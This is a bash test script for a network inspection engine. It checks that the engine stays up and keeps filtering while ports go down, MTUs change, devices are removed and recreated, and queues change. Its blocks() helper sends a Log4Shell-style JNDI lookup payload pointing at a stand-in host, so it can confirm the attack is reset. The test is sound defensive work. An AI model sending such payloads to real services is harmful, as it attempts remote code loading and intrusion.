#!/usr/bin/env bash
# shellcheck disable=SC2016 # Dollars in single quotes are jq's.
# An engine outlives what happens to the devices of a link: taken down, unplugged, another MTU, removed and made anew,
# other channels. Each is told, the other link goes on undisturbed, and afterwards attacks are blocked again.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

# A second link beside that of the topology, between the same three namespaces. It fails closed, without a bridge.
other_client_v4=10.78.0.1 other_server_v4=10.78.0.2
# What the download over it takes in s, and how much it is in bytes.
download_seconds=15 download_bytes=$((30 << 20))

# other_link_up: lays it out as the topology does the first.
other_link_up() {
    ip -n "$lab_prefix-client" link add to-server2 type veth peer name outside2 netns "$lab_prefix-middle"
    ip -n "$lab_prefix-server" link add to-client2 type veth peer name inside2 netns "$lab_prefix-middle"
    middle link set outside2 up
    middle link set inside2 up
    lab_end client to-server2 "$other_client_v4" fd78::1
    lab_end server to-client2 "$other_server_v4" fd78::2
}

other_link_config() {
    sed "/^\[\[link\]\]/,/^$/!d; s/^name = .*/name = \"$lab_prefix-2\"/; s/side\"\$/side2\"/
        s/^on_engine_loss = .*/on_engine_loss = \"drop\"/" "$dir/weir.toml"
}

middle() { ip -n "$lab_prefix-middle" "$@"; }

# eventually COMMAND...: for up to 10 s, which a loaded machine may take.
eventually() {
    local since=$SECONDS
    until "$@"; do
        [[ $((SECONDS - since)) -lt 10 ]] || return 1
        sleep 0.1
    done
}

# answers [SERVER]: a page passes.
answers() {
    fetch "$dir/got" "http://${1-$server_v4}/page.txt" --max-time 2
    cmp -s "$dir/got" "$dir/site/pages/page.txt"
}

# blocks [SERVER]: an attack is reset.
blocks() {
    fetch "$dir/got" "http://${1-$server_v4}/?x=\${jndi:ldap://evil.example/a}" --max-time 2
    [[ $curl_exit -eq 56 ]]
}

# told FILTER FROM: whether a `link` event of the first link, after the first FROM of them, is as the jq filter says.
told() {
    query --arg name "$lab_prefix" --argjson from "$2" \
        "map(select(.event_type == \"link\") | .link | select(.name == \$name)) | .[\$from:] | any($1)"
}

# Whether a jq filter over all events says true.
query() { jq -se "$@" "$dir/eve.json" >/dev/null; }

events_told() { jq -s --arg name "$lab_prefix" 'map(select(.link.name? == $name)) | length' "$dir/eve.json"; }

# happens TEXT FILTER COMMAND...: runs the command, and waits until an event tells of it.
happens() {
    local text=$1 filter=$2 from
    shift 2
    from=$(events_told)
    "$@"
    check "$text: an event tells" eventually told "$filter" "$from"
}

# works TEXT: the link inspects, and it is the same engine.
works() {
    check "$1: an attack is blocked" eventually blocks
    check "$1: a page passes" eventually answers
    check "$1: the engine is the same" kill -0 "$engine_pid"
}

both_mtu() { middle link set inside mtu "$1" && middle link set outside mtu "$1"; }

# An MTU for the whole way between client and server.
whole_mtu() {
    ip -n "$lab_prefix-client" link set to-server mtu "$1"
    ip -n "$lab_prefix-server" link set to-client mtu "$1"
    both_mtu "$1"
}

# The end of the server's side is made anew, with all that the topology gave it but the bridge. Under the address that
# its neighbours know, whom nobody else would tell of another.
make_inside() {
    ip -n "$lab_prefix-server" link add to-client address "$server_mac" type veth \
        peer name inside netns "$lab_prefix-middle"
    lab_end server to-client "$server_v4" "$server_v6"
    middle link set inside up
}

# Ticks of 10 ms that the engine has had of a core.
engine_ticks() { awk '{ print $14 + $15 }' "/proc/$engine_pid/stat"; }

# Downloads over the other link while everything else happens.
download_begins() {
    head -c "$download_bytes" /dev/urandom >"$dir/site/pages/large.bin"
    chmod 644 "$dir/site/pages/large.bin"
    nsenter --net="$(lab_netns client)" curl -qgsf --noproxy '*' --max-time 120 \
        --limit-rate $((download_bytes / download_seconds)) -o "$dir/large" \
        "http://$other_server_v4/large.bin" &
    download_pid=$!
    lab_children+=("$download_pid")
}

port_down() {
    local before after
    happens "port down" '.change == "port_down" and .port == "inside" and .state == "down"' \
        middle link set inside down
    check_not "port down: no page" answers
    before=$(engine_ticks)
    sleep 2
    after=$(engine_ticks)
    echo "      port down: the engine took $(((after - before) * 10)) ms of a core in 2 s, with a download on the other link"
    happens "port up" '.change == "port_up" and .state == "up"' middle link set inside up
    works "port up again"
}

carrier() {
    happens "far end down" '.change == "no_carrier" and .port == "inside" and .state == "down"' \
        ip -n "$lab_prefix-server" link set to-client down
    happens "far end up" '.change == "port_up" and .state == "up"' \
        ip -n "$lab_prefix-server" link set to-client up
    # Which the kernel forgets with the device.
    ip -n "$lab_prefix-server" address replace "$server_v6/64" dev to-client nodad
    works "far end up again"
}

mtu() {
    happens "MTU 1400" '.change == "mtu_changed" and .to == 1400 and .state == "up"' whole_mtu 1400
    works "MTU 1400"
    happens "MTU too long" '.to == 9000 and .state == "degraded" and (.trouble | test("3818")) and .hint != null' \
        both_mtu 9000
    works "MTU too long, frames that fit"
    happens "MTU 1500" '.change == "mtu_changed" and .to == 1500 and .state == "up"' whole_mtu 1500
    works "MTU 1500"
}

removal() {
    local server_mac
    server_mac=$(ip -n "$lab_prefix-server" -j link show to-client | jq -r '.[0].address')
    happens "port removed" '.change == "closed" and .state == "closed" and (.trouble | test("inside is missing"))' \
        middle link delete inside
    happens "port made anew, in no bridge" '.change == "refused" and (.trouble | test("bridge"))' make_inside
    happens "in the bridge again" '.change == "reopened" and .state == "up"' middle link set inside master bridge
    works "port made anew"
}

channels() {
    happens "channels of one port" '.change == "queues_changed" and .to == 2 and .state == "degraded"' \
        in_ns middle ethtool -L inside rx 2
    works "channels of one port"
    happens "channels of both" '.change == "reopened" and .state == "up"' in_ns middle ethtool -L outside rx 2
    works "channels of both"
    check "the link has two queues" eventually has_queues 2
}

has_queues() {
    query --arg name "$lab_prefix" --argjson count "$1" \
        'map(select(.event_type == "stats")) | last | .stats.capture[$name].inside.queues == $count'
}

# When its download is over, the other link loses a port as well.
other_link() {
    check "the other link told nothing" query --arg name "$lab_prefix-2" 'all(.link.name? != $name)'
    check "the download over the other link has ended well" wait "$download_pid"
    check_equal "and arrived whole" "$(sha256 "$dir/large")" "$(sha256 "$dir/site/pages/large.bin")"
    middle link delete outside2
    check "fails closed, port removed: an event tells" eventually other_is closed
    ip -n "$lab_prefix-client" link add to-server2 type veth peer name outside2 netns "$lab_prefix-middle"
    lab_end client to-server2 "$other_client_v4" fd78::1
    middle link set outside2 up
    check "fails closed, port made anew: opened again" eventually other_is up
    check "fails closed, port made anew: a page passes" eventually answers "$other_server_v4"
    check "fails closed, port made anew: an attack is blocked" blocks "$other_server_v4"
}

# Whether the other link is in this state, by its last event.
other_is() {
    query --arg name "$lab_prefix-2" --arg state "$1" \
        'map(select(.link.name? == $name)) | last | .link.state == $state'
}

books() {
    local stats
    check "the log tells of each change" grep -q "port_down inside (inside); it is down" "$dir/engine.log"
    engine_end TERM
    check_equal "the engine ends well" "$engine_exit" 0
    check_not "nothing is attached" lab_has_xdp
    check_equal "no pin is left" "$(find /sys/fs/bpf/weir -name "$lab_prefix*")" ""
    check_not "no frame is unaccounted for" grep -q ALARM "$dir/engine.log"
    stats=$(grep '"event_type":"stats"' "$dir/eve.json" | tail -n1)
    check "in = forwarded + dropped" holds '.stats.ips.unaccounted == 0' "$stats"
    check "none came from nowhere" holds '
        .stats.decoder.pkts <= ([.stats.capture[][].redirected] | add)' "$stats"
    check "totals did not fall" query 'map(select(.stats).stats.decoder.pkts) | . == sort'
    # All flows have ended by now, so what their events count is all there was, but for frames without a flow.
    check "flow events count each frame once" query '
        (map(select(.event_type == "flow").flow | .pkts_toserver + .pkts_toclient) | add) as $in_flows
        | last.stats as $stats
        | ($stats.capture | map(.inside.dropped_flow_blocked + .outside.dropped_flow_blocked) | add) as $blocked
        | $in_flows <= $stats.decoder.pkts + $blocked
          and $in_flows + $stats.decoder.non_ip + 200 >= $stats.decoder.pkts + $blocked'
    # Not by jq, for which numbers of 63 bits are too long.
    check_equal "no flow is told twice" \
        "$(grep '"event_type":"flow"' "$dir/eve.json" | grep -o '"flow_id":[0-9]*' | sort | uniq -d)" ""
}

if obstacle=$(lab_obstacle); then skip case-survive "$obstacle"; fi
lab_open survive
lab_up "weir-survive-$$"
other_link_up
lab_mount_bpffs
site_up "$dir/site"
text_of 5000 >"$dir/site/pages/page.txt"
engine_write_config "$dir/weir.toml" "$dir/eve.json"
other_link_config >"$dir/other.toml"
cat "$dir/other.toml" >>"$dir/weir.toml"
sed -i 's/^\[events\]/&\nstats_interval_s = 1/' "$dir/weir.toml"
lab_start_engine case-survive
works "at first"
download_begins
for part in port_down carrier mtu removal channels other_link books; do
    section "$part"
    "$part"
done
checks_close
